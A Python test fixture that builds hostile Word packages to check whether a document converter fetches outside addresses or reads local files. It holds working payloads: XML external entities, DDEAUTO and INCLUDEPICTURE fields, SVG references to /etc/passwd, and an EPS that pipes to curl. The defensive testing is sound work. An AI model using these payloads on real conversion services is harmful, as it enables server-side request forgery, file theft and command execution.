"""Papers with a link or an embedding: name -> how to make it for an address and a file.

Every probe names both, so that a visit to either is seen. Its harmless twin is the same paper with
targets inside the package or plain text, and must become a PDF.
"""

from __future__ import annotations

import base64
import io
import zipfile
from collections.abc import Callable

from service.conversion.leaky import canary_png, leaky_docx
from tests.hostile_papers import (
    NAMESPACES,
    SVG_HEAD,
    picture,
    relationships,
    svg_paper,
    text,
    word_package,
)

Probe = Callable[[str, str], bytes]
BODY = text("Проба")


def linked(kind: str, body: str = BODY, *, part: str = "word/_rels/document.xml.rels") -> Probe:
    """External relationships of one kind, to the address (rIdH) and to the file (rIdF)."""

    def make(url: str, file: str) -> bytes:
        links = {"rIdH": (kind, url, True), "rIdF": (kind, file, True)}
        return word_package(body, parts={part: relationships(links)})

    return make


def field(instruction: str) -> Probe:
    """Two fields, one for each target; {} is the target."""

    def make(url: str, file: str) -> bytes:
        return word_package(BODY + "".join(_field(instruction.format(target)) for target in (url, file)))

    return make


def svg(inside: str, *, name: str = "image1.svg") -> Probe:
    """One SVG picture; {url} and {file} are the targets."""
    return lambda url, file: svg_paper(inside.format(url=url, file=file), name=name)


def disguised(content: str) -> Probe:
    """Another format in a file named .docx."""
    return lambda url, file: content.replace("{url}", url).replace("{file}", file).encode()


def with_part(
    name: str, content: str, *, kind: str, body: str = BODY, rels: str = "", content_type: str = ""
) -> Probe:
    """A part of the package that names the targets, itself or by its own relationships."""

    def make(url: str, file: str) -> bytes:
        parts: dict[str, str | bytes] = {
            f"word/{name}": content.replace("{url}", url).replace("{file}", file)
        }
        if rels:
            own = {"rIdH": (rels, url, True), "rIdF": (rels, file, True)}
            folder, _, last = f"word/{name}".rpartition("/")
            parts[f"{folder}/_rels/{last}.rels"] = relationships(own)
        if content_type:
            parts["[Content_Types].xml"] = _types_with(f"/word/{name}", content_type)
        return word_package(body, links={"rIdP": (kind, name, False)}, parts=parts)

    return make


def _types_with(name: str, content_type: str) -> str:
    with zipfile.ZipFile(io.BytesIO(word_package(""))) as package:
        usual = package.read("[Content_Types].xml").decode()
    return usual.replace("</Types>", f'<Override PartName="{name}" ContentType="{content_type}"/></Types>')


def _field(instruction: str) -> str:
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>поле</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def _doctype(kind: str) -> Probe:
    def make(url: str, file: str) -> bytes:
        target = url if kind == "address" else file
        doctype = f'<!DOCTYPE w:document [<!ENTITY x SYSTEM "{target}">]>'
        return word_package(text("&x;"), doctype=doctype)

    return make


def _embedded(
    inner: Probe, *, kind: str = "package", extension: str = "docx", program: str = "Word.Document.12"
) -> Probe:
    body = (
        '<w:p><w:r><w:object w:dxaOrig="2000" w:dyaOrig="2000"><v:shape id="o1" '
        'style="width:100pt;height:100pt"><v:imagedata r:id="rIdP"/></v:shape>'
        f'<o:OLEObject Type="Embed" ProgID="{program}" ShapeID="o1" DrawAspect="Content" ObjectID="_1" '
        'r:id="rIdO"/></w:object></w:r></w:p>'
    )
    part = f"embeddings/inner.{extension}"

    def make(url: str, file: str) -> bytes:
        return word_package(
            BODY + body,
            links={"rIdP": ("image", "media/p.png", False), "rIdO": (kind, part, False)},
            parts={"word/media/p.png": canary_png(), f"word/{part}": inner(url, file)},
        )

    return make


def _zipped(content: str, *, mime: str) -> Probe:
    def make(url: str, file: str) -> bytes:
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w") as package:
            package.writestr("mimetype", mime)
            package.writestr("content.xml", content.replace("{url}", url).replace("{file}", file))
            package.writestr(
                "META-INF/manifest.xml",
                '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
                f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mime}"/>'
                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                "</manifest:manifest>",
            )
        return made.getvalue()

    return make


PICTURES = picture("rIdH", how="link", number=1) + picture("rIdF", how="link", number=2)
VML = (
    '<w:p><w:r><w:pict><v:rect style="width:50pt;height:50pt"><v:{tag} {attribute}="rIdH"/></v:rect>'
    '<v:rect style="width:50pt;height:50pt"><v:{tag} {attribute}="rIdF"/></v:rect></w:pict></w:r></w:p>'
)
ODF = (
    '<office:{root} xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2" '
    'office:mimetype="application/vnd.oasis.opendocument.text"><office:body><office:text>{inside}'
    "</office:text></office:body></office:{root}>"
)
ODF_PICTURES = (
    '<text:p><draw:frame svg:width="2cm" svg:height="2cm"><draw:image xlink:href="{url}"/></draw:frame>'
    '<draw:frame svg:width="2cm" svg:height="2cm"><draw:image xlink:href="{file}"/></draw:frame></text:p>'
)
ODF_SECTIONS = (
    '<text:section text:name="a"><text:section-source xlink:href="{url}"/><text:p>a</text:p></text:section>'
    '<text:section text:name="b"><text:section-source xlink:href="{file}"/><text:p>b</text:p></text:section>'
)


def _flat(inside: str) -> str:
    return '<?xml version="1.0"?>' + ODF.replace("{root}", "document").replace("{inside}", inside)


def _packed(inside: str) -> Probe:
    content = '<?xml version="1.0"?>' + ODF.replace("{root}", "document-content").replace("{inside}", inside)
    return _zipped(content, mime="application/vnd.oasis.opendocument.text")


RTF_PICTURE = r'{\rtf1 {\field{\*\fldinst INCLUDEPICTURE "{url}" \\d}{\fldrslt x}}{\field{\*\fldinst INCLUDEPICTURE "{file}" \\d}{\fldrslt x}} text}'
HTML = '<html><head><link rel="stylesheet" href="{url}"><link rel="stylesheet" href="{file}"></head><body><img src="{url}"><img src="{file}"><iframe src="{url}"></iframe>text</body></html>'
ALTERNATIVE = '<w:altChunk r:id="rIdP"/>' + BODY
SVG_IMAGES = (
    '<image width="50" height="50" xlink:href="{url}"/><image width="50" height="50" xlink:href="{file}"/>'
)
SETTINGS = "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"
_W = NAMESPACES


def _settings(inside: str) -> str:
    return f"<w:settings {_W}>{inside}</w:settings>"


PROBES: dict[str, Probe] = {
    "all the self-test has": lambda url, file: leaky_docx(url, file),
    "linked picture": linked("image", PICTURES),
    "linked picture, embedded as well": linked(
        "image", PICTURES.replace('r:link="rIdH"', 'r:link="rIdH" r:embed="rIdH"')
    ),
    "embed of an outside relationship": linked("image", picture("rIdH") + picture("rIdF", number=2)),
    "VML picture": linked("image", VML.format(tag="imagedata", attribute="r:id")),
    "VML picture by href": linked("image", VML.format(tag="imagedata", attribute="r:href")),
    "VML picture by o:relid": linked("image", VML.format(tag="imagedata", attribute="o:relid")),
    "VML fill": linked("image", VML.format(tag="fill", attribute='type="frame" r:id')),
    "VML stroke": linked("image", VML.format(tag="stroke", attribute="r:id")),
    "VML source by address": lambda url, file: word_package(
        BODY + f'<w:p><w:r><w:pict><v:rect style="width:9pt;height:9pt"><v:imagedata src="{url}"/></v:rect>'
        f'<v:rect style="width:9pt;height:9pt"><v:imagedata src="{file}"/></v:rect></w:pict></w:r></w:p>'
    ),
    "background": linked(
        "image",
        '<w:background w:color="FFFFFF"><v:background><v:fill r:id="rIdH" type="frame"/></v:background></w:background>'
        + BODY,
    ),
    "linked object": linked(
        "oleObject",
        BODY
        + '<w:p><w:r><w:object><v:shape id="o" style="width:9pt;height:9pt"/><o:OLEObject Type="Link" ProgID="Word.Document.12" ShapeID="o" DrawAspect="Content" ObjectID="_1" r:id="rIdH" UpdateMode="Always"/></w:object><w:object><v:shape id="q" style="width:9pt;height:9pt"/><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="q" DrawAspect="Content" ObjectID="_2" r:id="rIdF" UpdateMode="Always"/></w:object></w:r></w:p>',
    ),
    "attached template": lambda url, file: with_part(
        "settings.xml",
        _settings('<w:attachedTemplate r:id="rIdH"/>'),
        kind="settings",
        rels="attachedTemplate",
        content_type=SETTINGS,
    )(url, file),
    "mail merge": with_part(
        "settings.xml",
        _settings(
            '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="textFile"/><w:connectString w:val="{url}"/><w:query w:val="SELECT * FROM {file}"/><w:dataSource r:id="rIdH"/></w:mailMerge>'
        ),
        kind="settings",
        rels="mailMergeSource",
        content_type=SETTINGS,
    ),
    "sub-document": linked("subDocument", '<w:subDoc r:id="rIdH"/><w:subDoc r:id="rIdF"/>' + BODY),
    "frame set": with_part(
        "webSettings.xml",
        f'<w:webSettings {_W}><w:frameset><w:frame><w:sourceFileName r:id="rIdH"/></w:frame><w:frame><w:sourceFileName r:id="rIdF"/></w:frame></w:frameset></w:webSettings>',
        kind="webSettings",
        rels="frame",
        content_type="application/vnd.openxmlformats-officedocument.wordprocessingml.webSettings+xml",
    ),
    "outside chunk": linked("aFChunk", '<w:altChunk r:id="rIdH"/><w:altChunk r:id="rIdF"/>' + BODY),
    "HTML chunk": with_part("chunk.html", HTML, kind="aFChunk", body=ALTERNATIVE),
    "RTF chunk": with_part("chunk.rtf", RTF_PICTURE, kind="aFChunk", body=ALTERNATIVE),
    "hyperlink": linked(
        "hyperlink", '<w:p><w:hyperlink r:id="rIdH"><w:r><w:t>a</w:t></w:r></w:hyperlink></w:p>' + BODY
    ),
    "outside styles": linked("styles"),
    "outside numbering": linked("numbering"),
    "outside fonts": linked("fontTable"),
    "outside theme": linked("theme"),
    "outside header": linked(
        "header", BODY + '<w:sectPr><w:headerReference w:type="default" r:id="rIdH"/></w:sectPr>'
    ),
    "outside footnotes": linked("footnotes"),
    "outside settings": linked("settings"),
    "outside custom XML": linked("customXml"),
    "outside document": lambda url, file: word_package(
        BODY,
        parts={
            "_rels/.rels": relationships(
                {
                    "rId1": ("officeDocument", "word/document.xml", False),
                    "rIdH": ("officeDocument", url, True),
                    "rIdF": ("extended-properties", file, True),
                }
            )
        },
    ),
    "outside chart": linked(
        "chart",
        BODY
        + '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="500000" cy="500000"/><wp:docPr id="1" name="c"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" r:id="rIdH"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>',
    ),
    "linked font": with_part(
        "fontTable.xml",
        f'<w:fonts {_W}><w:font w:name="Times New Roman"><w:embedRegular r:id="rIdF"/></w:font></w:fonts>',
        kind="fontTable",
        rels="font",
        content_type="application/vnd.openxmlformats-officedocument.wordprocessingml.fontTable+xml",
    ),
    "picture bullet": with_part(
        "numbering.xml",
        f'<w:numbering {_W}><w:numPicBullet w:numPicBulletId="0"><w:pict><v:shape style="width:9pt;height:9pt"><v:imagedata r:id="rIdH"/></v:shape></w:pict></w:numPicBullet><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:numFmt w:val="bullet"/><w:lvlPicBulletId w:val="0"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>',
        kind="numbering",
        rels="image",
        body='<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>a</w:t></w:r></w:p>',
        content_type="application/vnd.openxmlformats-officedocument.wordprocessingml.numbering+xml",
    ),
    "picture in a header": with_part(
        "header1.xml",
        f"<w:hdr {_W}>{PICTURES}</w:hdr>",
        kind="header",
        rels="image",
        body=BODY + '<w:sectPr><w:headerReference w:type="default" r:id="rIdP"/></w:sectPr>',
        content_type="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml",
    ),
    "INCLUDEPICTURE": field('INCLUDEPICTURE "{}" \\* MERGEFORMAT'),
    "INCLUDEPICTURE without data": field('INCLUDEPICTURE "{}" \\d'),
    "INCLUDETEXT": field('INCLUDETEXT "{}"'),
    "LINK": field('LINK Word.Document.12 "{}" "" \\a \\p'),
    "DDE": field('DDE soffice "{}" a'),
    "DDEAUTO": field('DDEAUTO soffice "{}" a'),
    "IMPORT": field('IMPORT "{}"'),
    "RD": field('RD "{}"'),
    "DATABASE": field('DATABASE \\d "{}" \\s "SELECT *"'),
    "HYPERLINK": field('HYPERLINK "{}"'),
    "AUTOTEXT": field('AUTOTEXT "{}"'),
    "MACROBUTTON": field('MACROBUTTON AutoOpen "{}"'),
    "SVG image": svg(SVG_IMAGES),
    "SVG named .png": svg(SVG_IMAGES, name="image1.png"),
    "SVG use": svg('<use xlink:href="{url}#a"/><use xlink:href="{file}#a"/>'),
    "SVG style": svg(
        '<style>@import url("{url}"); @import url("{file}"); rect{{fill:url("{url}#a")}}</style><rect width="9" height="9"/>'
    ),
    "SVG style sheet instruction": lambda url, file: word_package(
        picture("rIdS"),
        links={"rIdS": ("image", "media/i.svg", False)},
        parts={
            "word/media/i.svg": f'<?xml version="1.0"?><?xml-stylesheet href="{url}"?><?xml-stylesheet href="{file}"?>{SVG_HEAD}<rect width="9" height="9"/></svg>'
        },
    ),
    "SVG entity": lambda url, file: word_package(
        picture("rIdS"),
        links={"rIdS": ("image", "media/i.svg", False)},
        parts={
            "word/media/i.svg": f'<!DOCTYPE svg [<!ENTITY a SYSTEM "{url}"><!ENTITY b SYSTEM "{file}">]>{SVG_HEAD}<text>&a;&b;</text></svg>'
        },
    ),
    "SVG inside SVG": svg(
        '<image width="50" height="50" xlink:href="data:image/svg+xml;base64,'
        + base64.b64encode(
            f'{SVG_HEAD}<image width="9" height="9" xlink:href="/etc/passwd"/></svg>'.encode()
        ).decode()
        + '"/>'
        + SVG_IMAGES
    ),
    "SVG filter": svg(
        '<filter id="f"><feImage xlink:href="{url}"/><feImage xlink:href="{file}"/></filter><rect filter="url(#f)" width="9" height="9"/>'
    ),
    "EPS that runs a program": lambda url, file: word_package(
        picture("rIdS"),
        links={"rIdS": ("image", "media/i.eps", False)},
        parts={
            "word/media/i.eps": f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n({file[7:]}) (r) file pop\n(%pipe%curl {url}) (r) file pop\nshowpage\n%%EOF\n"
        },
    ),
    "embedded Word with links": _embedded(linked("image", PICTURES)),
    "embedded Word in embedded Word": _embedded(_embedded(linked("image", PICTURES))),
    "embedded SVG in Word": _embedded(svg(SVG_IMAGES)),
    "embedded OpenDocument": _embedded(
        _packed(ODF_PICTURES), extension="odt", program="opendocument.WriterDocument.1"
    ),
    "embedded OpenDocument sections": _embedded(
        _packed(ODF_SECTIONS), extension="odt", program="opendocument.WriterDocument.1"
    ),
    "embedded HTML": _embedded(disguised(HTML), extension="html", program="htmlfile"),
    "embedded RTF": _embedded(disguised(RTF_PICTURE), extension="rtf", program="Word.Document.8"),
    "RTF in .docx": disguised(RTF_PICTURE),
    "HTML in .docx": disguised(HTML),
    "flat OpenDocument in .docx": disguised(_flat(ODF_PICTURES)),
    "flat OpenDocument sections in .docx": disguised(_flat(ODF_SECTIONS)),
    "OpenDocument in .docx": _packed(ODF_PICTURES),
    "OpenDocument sections in .docx": _packed(ODF_SECTIONS),
    "playlist in .docx": disguised("#EXTM3U\n{url}\n{file}\n"),
    "entity for an address": _doctype("address"),
    "entity for a file": _doctype("file"),
    "outside DTD": lambda url, file: word_package(BODY, doctype=f'<!DOCTYPE w:document SYSTEM "{url}">'),
    "schema location": lambda url, file: word_package(
        BODY.replace(
            "<w:p>",
            f'<w:p xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="{url} {file}">',
        )
    ),
    "include": lambda url, file: word_package(
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{file}" parse="text"/><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{url}"/>'
        + BODY
    ),
}
